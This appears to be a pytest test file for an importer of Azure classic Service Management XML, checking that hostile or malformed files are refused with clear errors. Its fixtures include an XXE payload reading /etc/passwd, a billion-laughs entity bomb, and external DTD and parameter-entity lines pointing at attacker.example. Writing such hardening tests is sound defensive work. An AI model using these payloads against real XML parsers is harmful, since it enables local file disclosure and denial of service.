"""Hostile and broken XML: every case is an InputError naming the file, never a traceback, never
an entity expanded, never an output file. The inputs are generated here, never shipped."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from sim.common.errors import InputError
from sim.importers import import_asm, import_netcfg, write_estate

ASM_NS = "http://schemas.microsoft.com/windowsazure"
NETCFG_NS = "http://schemas.microsoft.com/ServiceHosting/2011/07/NetworkConfiguration"

GOOD = (
    f'<VirtualNetworkSites xmlns="{ASM_NS}"><VirtualNetworkSite><Name>vnet-a</Name>'
    "</VirtualNetworkSite></VirtualNetworkSites>"
)

XXE = f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE VirtualNetworkSites [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<VirtualNetworkSites xmlns="{ASM_NS}">
  <VirtualNetworkSite><Name>&xxe;</Name></VirtualNetworkSite>
</VirtualNetworkSites>
"""

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'
        for i in range(1, 10)
    )
    + f']>\n<VirtualNetworkSites xmlns="{ASM_NS}"><VirtualNetworkSite><Name>&lol9;</Name>'
    "</VirtualNetworkSite></VirtualNetworkSites>\n"
)

PLAIN_DTD = f'<?xml version="1.0"?>\n<!DOCTYPE VirtualNetworkSites>\n{GOOD}\n'
EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE VirtualNetworkSites SYSTEM "http://attacker.example/evil.dtd">\n'
    f"{GOOD}\n"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE r [\n'
    '  <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">\n  %remote;\n]>\n'
    f"{GOOD}\n"
)
TRUNCATED = (
    f'<VirtualNetworkSites xmlns="{ASM_NS}">\n  <VirtualNetworkSite>\n'
    "    <Name>vnet-a</Name>\n    <AddressSpace><AddressPref"
)
WRONG_NS = '<VirtualNetworkSites xmlns="http://example.com/not-azure"><X/></VirtualNetworkSites>'

# (file text, text the message must hold, the line it must name)
CASES: dict[str, tuple[str | bytes, str, int | None]] = {
    "xxe": (XXE, "external entity 'xxe' ('file:///etc/passwd')", 3),
    "billion-laughs": (BILLION_LAUGHS, "entity 'lol'", 3),
    "plain-dtd": (PLAIN_DTD, "document type declaration", 2),
    "external-dtd": (EXTERNAL_DTD, "http://attacker.example/evil.dtd", 2),
    "parameter-entity": (PARAMETER_ENTITY, "external entity 'remote'", 3),
    "truncated": (TRUNCATED, "truncated", 4),
    "not-xml": ("name,address\nvnet-a,10.0.0.0/16\n", "is not XML", 1),
    "binary": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "is not XML", 1),
    "empty-file": ("", "is empty", 1),
    "wrong-namespace": (
        WRONG_NS,
        f"expected a Service Management API response in namespace {ASM_NS!r}",
        1,
    ),
}


def hostile_folder(tmp_path: Path, content: str | bytes) -> Path:
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "a-good.xml").write_text(GOOD, encoding="utf-8")  # a good file does not help
    target = folder / "networking-virtualnetwork.xml"
    if isinstance(content, bytes):
        target.write_bytes(content)
    else:
        target.write_text(content, encoding="utf-8")
    return folder


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_asm_folder(tmp_path: Path, case: str) -> None:
    content, expected, line = CASES[case]
    folder = hostile_folder(tmp_path, content)
    out = tmp_path / "estate.yaml"
    started = time.monotonic()
    with pytest.raises(InputError) as exc:
        write_estate(import_asm(folder), out)
    assert time.monotonic() - started < 5
    err = exc.value
    assert err.file == str(folder / "networking-virtualnetwork.xml")
    assert expected in err.message
    assert err.line == line
    assert "networking-virtualnetwork.xml" in err.render()
    assert "root:" not in err.render()  # /etc/passwd never read into the message
    assert not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export"]  # no temp file left either


@pytest.mark.parametrize("case", ["xxe", "billion-laughs", "plain-dtd", "truncated", "not-xml"])
def test_hostile_netcfg_file(tmp_path: Path, case: str) -> None:
    content, expected, line = CASES[case]
    assert isinstance(content, str)
    content = content.replace(ASM_NS, NETCFG_NS).replace(
        "VirtualNetworkSites", "NetworkConfiguration"
    )
    path = tmp_path / "netcfg.xml"
    path.write_text(content, encoding="utf-8")
    out = tmp_path / "estate.yaml"
    with pytest.raises(InputError) as exc:
        write_estate(import_netcfg(path), out)
    assert exc.value.file == str(path)
    assert expected in exc.value.message
    assert exc.value.line == line
    assert not out.exists()


def test_refusals_explain_why(tmp_path: Path) -> None:
    folder = hostile_folder(tmp_path, XXE)
    with pytest.raises(InputError) as exc:
        import_asm(folder)
    assert "refused" in exc.value.message and "XXE" in exc.value.message


def test_empty_folder(tmp_path: Path) -> None:
    folder = tmp_path / "empty"
    folder.mkdir()
    out = tmp_path / "estate.yaml"
    with pytest.raises(InputError) as exc:
        write_estate(import_asm(folder), out)
    assert exc.value.message == f"no Service Management XML files found in {folder}"
    assert exc.value.file == str(folder)
    assert not out.exists()


def test_xml_suffix_directory_is_not_a_file(tmp_path: Path) -> None:
    folder = tmp_path / "export"
    (folder / "trap.xml").mkdir(parents=True)
    with pytest.raises(InputError, match="no Service Management XML files found"):
        import_asm(folder)


def test_undefined_entity_without_dtd(tmp_path: Path) -> None:
    folder = hostile_folder(tmp_path, GOOD.replace("vnet-a", "&secret;"))
    with pytest.raises(InputError) as exc:
        import_asm(folder)
    assert "undefined entity" in exc.value.message
    assert exc.value.line == 1


def test_deep_nesting_is_not_a_crash(tmp_path: Path) -> None:
    depth = 20_000
    body = "<X>" * depth + "</X>" * depth
    folder = hostile_folder(
        tmp_path,
        f'<VirtualNetworkSites xmlns="{ASM_NS}"><VirtualNetworkSite><Name>v</Name>{body}'
        "</VirtualNetworkSite></VirtualNetworkSites>",
    )
    result = import_asm(folder)  # unknown elements are counted, never walked
    assert "unknown element X (once) in networking-virtualnetwork.xml" in result.warnings


# ---- values taken from XML are checked before a record is built (through the CLI) -------------

STORAGE_XML = (
    f'<StorageServices xmlns="{ASM_NS}"><StorageService><ServiceName>stdisks</ServiceName>'
    "</StorageService></StorageServices>"
)
VNETS_XML = (
    f'<VirtualNetworkSites xmlns="{ASM_NS}">\n<VirtualNetworkSite><Name>vnet-a</Name>\n'
    "<AddressSpace><AddressPrefixes><AddressPrefix>10.1.0.0/16</AddressPrefix>"
    "</AddressPrefixes></AddressSpace>\n"
    "<Subnets><Subnet><Name>app</Name>\n<AddressPrefix>10.1.1.0/24</AddressPrefix></Subnet>"
    "</Subnets>\n<Dns><DnsServers><DnsServer><Name>dc</Name>\n<Address>10.1.1.4</Address>"
    "</DnsServer></DnsServers></Dns>\n</VirtualNetworkSite></VirtualNetworkSites>"
)


def service_doc(
    vm: str = "vm1",
    *,
    account: str = "stdisks",
    subnet: str = "app",
    service: str = "cs",
    extra: str = "",
) -> str:
    return (
        f'<HostedService xmlns="{ASM_NS}"><ServiceName>{service}</ServiceName>'
        "<Deployments><Deployment><Name>d</Name><DeploymentSlot>Production</DeploymentSlot>"
        "<VirtualNetworkName>vnet-a</VirtualNetworkName><RoleList>\n"
        f"<Role><RoleName>{vm}</RoleName><RoleType>PersistentVMRole</RoleType>"
        "<ConfigurationSets><ConfigurationSet><ConfigurationSetType>NetworkConfiguration"
        f"</ConfigurationSetType><SubnetNames><SubnetName>{subnet}</SubnetName></SubnetNames>"
        f"</ConfigurationSet></ConfigurationSets>{extra}\n<OSVirtualHardDisk>\n<MediaLink>"
        f"https://{account}.blob.core.windows.net/vhds/{vm}.vhd</MediaLink>"
        "</OSVirtualHardDisk></Role></RoleList></Deployment></Deployments></HostedService>"
    )


def refused_by_cli(folder: Path, out: Path, *fragments: str, netcfg: bool = False) -> None:
    from click.testing import CliRunner

    from sim.cli import cli

    kind = "netcfg" if netcfg else "asm"
    result = CliRunner().invoke(cli, ["import", kind, str(folder), "--out", str(out)])
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    message = " ".join(result.stderr.split())
    assert message.count("error: ") == 1, message
    for fragment in fragments:
        assert fragment in message, message
    assert not out.exists()


def export(tmp_path: Path, service: str = "", vnets: str = VNETS_XML, **more: str) -> Path:
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "storage.xml").write_text(STORAGE_XML, encoding="utf-8")
    (folder / "vnets.xml").write_text(vnets, encoding="utf-8")
    (folder / "service.xml").write_text(service or service_doc(), encoding="utf-8")
    for name, text in more.items():
        (folder / f"{name}.xml").write_text(text, encoding="utf-8")
    return folder


def test_a_good_small_export_imports(tmp_path: Path) -> None:
    """The documents the cases below break one value of are imported as they are."""
    result = import_asm(export(tmp_path))
    (vm,) = result.estate.cloud_services[0].vms
    assert (vm.os_disk.storage_account, vm.subnets) == ("stdisks", ("app",))
    assert result.estate.vnets[0].dns_servers == ("10.1.1.4",)


@pytest.mark.parametrize(
    ("account", "shown"),
    [("a" * 300, "'" + "a" * 40 + "'..."), ("ab", "'ab'"), ("st_disks", "'st_disks'")],
)
def test_storage_account_from_a_media_link(tmp_path: Path, account: str, shown: str) -> None:
    folder = export(tmp_path, service_doc(account=account))
    refused_by_cli(
        folder,
        tmp_path / "e.yaml",
        f"{folder / 'service.xml'}:4: VM vm1: OS disk MediaLink's storage account {shown}",
        "is not a storage account name; expected 3 to 24 lowercase letters and digits",
    )


def test_storage_service_name(tmp_path: Path) -> None:
    folder = export(tmp_path)
    (folder / "storage.xml").write_text(STORAGE_XML.replace("stdisks", "St-Disks"))
    refused_by_cli(
        folder, tmp_path / "e.yaml", "storage.xml:1: StorageService ServiceName 'St-Disks'"
    )


@pytest.mark.parametrize(
    ("old", "new", "line", "why"),
    [
        ("10.1.0.0/16", "10.1.0.0/33", 3, "the prefix length 33 is more than 32"),
        ("10.1.0.0/16", "10.1.0.0", 3, "not in the form a.b.c.d/n"),
        ("10.1.1.0/24", "10.1.1.9/24", 5, "host bits are set (the network is 10.1.1.0/24)"),
        ("10.1.1.0/24", "300.1.1.0/24", 5, "Octet 300 (> 255) not permitted in '300.1.1.0'"),
    ],
)
def test_prefixes_parsed_with_ipaddress(
    tmp_path: Path, old: str, new: str, line: int, why: str
) -> None:
    folder = export(tmp_path, vnets=VNETS_XML.replace(old, new))
    refused_by_cli(
        folder,
        tmp_path / "e.yaml",
        f"vnets.xml:{line}: VNet vnet-a",
        f"AddressPrefix '{new}' is not a CIDR prefix ({why})",
    )


def test_netcfg_prefix_over_32_bits(tmp_path: Path) -> None:
    path = tmp_path / "net.xml"
    path.write_text(
        f'<NetworkConfiguration xmlns="{NETCFG_NS}"><VirtualNetworkConfiguration>'
        '<VirtualNetworkSites>\n<VirtualNetworkSite name="v" Location="West Europe">\n'
        "<AddressSpace><AddressPrefix>10.0.0.0/33</AddressPrefix></AddressSpace>"
        "</VirtualNetworkSite></VirtualNetworkSites></VirtualNetworkConfiguration>"
        "</NetworkConfiguration>"
    )
    refused_by_cli(
        path,
        tmp_path / "e.yaml",
        f"{path}:3: VNet v: AddressPrefix '10.0.0.0/33' is not a CIDR prefix",
        netcfg=True,
    )


def test_dns_server_must_be_an_address(tmp_path: Path) -> None:
    folder = export(tmp_path, vnets=VNETS_XML.replace("10.1.1.4", "dc.contoso.local"))
    refused_by_cli(
        folder,
        tmp_path / "e.yaml",
        "vnets.xml:7: VNet vnet-a: DNS server 'dc.contoso.local' is not an IP address",
    )


@pytest.mark.parametrize(
    ("service", "what"),
    [
        (service_doc(subnet="s" * 201), "VM vm1: SubnetName"),
        (service_doc("v" * 201), "Role name"),
        (service_doc(service="c" * 201), "HostedService name"),
        (service_doc(extra=f"<RoleSize>{'x' * 201}</RoleSize>"), "VM vm1: RoleSize"),
        (
            service_doc(extra=f"<AvailabilitySetName>{'a' * 201}</AvailabilitySetName>"),
            "VM vm1: AvailabilitySetName",
        ),
    ],
    ids=["subnet", "vm", "service", "size", "availability-set"],
)
def test_names_longer_than_the_estate_holds(tmp_path: Path, service: str, what: str) -> None:
    folder = export(tmp_path, service)
    refused_by_cli(
        folder, tmp_path / "e.yaml", "service.xml:", what, "is longer than 200 characters"
    )


def test_a_rename_that_makes_a_name_too_long(tmp_path: Path) -> None:
    """Two cloud services with one VM name: the second becomes <service>/<vm>, here 401
    characters, which the estate cannot hold; refused, not written and loaded back."""
    long_vm, long_cs = "v" * 200, "c" * 200
    folder = export(tmp_path, service_doc(long_vm), second=service_doc(long_vm, service=long_cs))
    refused_by_cli(
        folder,
        tmp_path / "e.yaml",
        f"{folder}: the imported estate is not valid at cloud_services",
        "String should have at most 200 characters",
    )


def test_disk_size_larger_than_any_classic_disk(tmp_path: Path) -> None:
    disk = (
        "<DataVirtualHardDisks><DataVirtualHardDisk><MediaLink>"
        "https://stdisks.blob.core.windows.net/vhds/d.vhd</MediaLink>\n"
        f"<LogicalDiskSizeInGB>{'9' * 40}</LogicalDiskSizeInGB>"
        "</DataVirtualHardDisk></DataVirtualHardDisks>"
    )
    folder = export(tmp_path, service_doc(extra=disk))
    refused_by_cli(
        folder,
        tmp_path / "e.yaml",
        "service.xml:3: VM vm1: data disk size",
        "expected a whole number of GB from 1 to 4,095",
    )


def test_a_deployment_url_that_does_not_parse(tmp_path: Path) -> None:
    """A stand-alone deployment names its service by its URL; one urlsplit refuses is no URL."""
    deployment = (
        f'<Deployment xmlns="{ASM_NS}"><Name>dep</Name><Url>http://[broken/</Url>'
        "<RoleList></RoleList></Deployment>"
    )
    result = import_asm(export(tmp_path, dep=deployment))
    assert "dep" in [cs.name for cs in result.estate.cloud_services]


def test_unusual_names_round_trip(tmp_path: Path) -> None:
    """Names that look like YAML (``null``, ``&x``), a combining accent, an emoji and an emoji
    sequence joined by ZERO WIDTH JOINER (a format character names may hold): the estate file
    reads back to the same names."""
    from xml.sax.saxutils import escape

    from sim.model.scenario import load_estate

    names = ["&x", "null", "é\u0301", "\U0001f600", "\U0001f469\u200d\U0001f4bb"]
    sites = "".join(
        f"<VirtualNetworkSite><Name>{escape(n)}</Name></VirtualNetworkSite>" for n in names
    )
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "v.xml").write_text(
        f'<VirtualNetworkSites xmlns="{ASM_NS}">{sites}</VirtualNetworkSites>', encoding="utf-8"
    )
    out = tmp_path / "estate.yaml"
    write_estate(import_asm(folder), out)
    assert [v.name for v in load_estate(out).vnets] == names


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("a\x85b", "'\\x85' (U+0085)"),  # NEL, a control character
        ("a\u2028b", "'\\u2028' (U+2028)"),  # LINE SEPARATOR
        ("c\u2029d", "'\\u2029' (U+2029)"),  # PARAGRAPH SEPARATOR
        ("a\u202eb", "'\\u202e' (U+202E)"),  # RIGHT-TO-LEFT OVERRIDE
        ("web&#127;", "'\\x7f' (U+007F)"),  # DELETE (XML 1.0 refuses ESC, even as &#27;)
        ("a&#9;b", "'\\t' (U+0009)"),
    ],
)
def test_names_with_line_breaks_or_control_characters_are_refused(
    tmp_path: Path, name: str, shown: str
) -> None:
    """A line break, a control character or a bidirectional override inside a name (XML
    allows them, some as character references) is refused with the file, its line and the
    character, as the loader refuses it in a scenario."""
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "v.xml").write_text(
        f'<VirtualNetworkSites xmlns="{ASM_NS}">\n<VirtualNetworkSite><Name>ok</Name>'
        f"</VirtualNetworkSite>\n<VirtualNetworkSite><Name>{name}</Name>"
        "</VirtualNetworkSite></VirtualNetworkSites>",
        encoding="utf-8",
    )
    with pytest.raises(InputError) as exc:
        import_asm(folder)
    assert exc.value.line == 3
    assert exc.value.file is not None and exc.value.file.endswith("v.xml")
    assert "VirtualNetworkSite name" in exc.value.message
    assert f"holds the control character {shown}" in exc.value.message
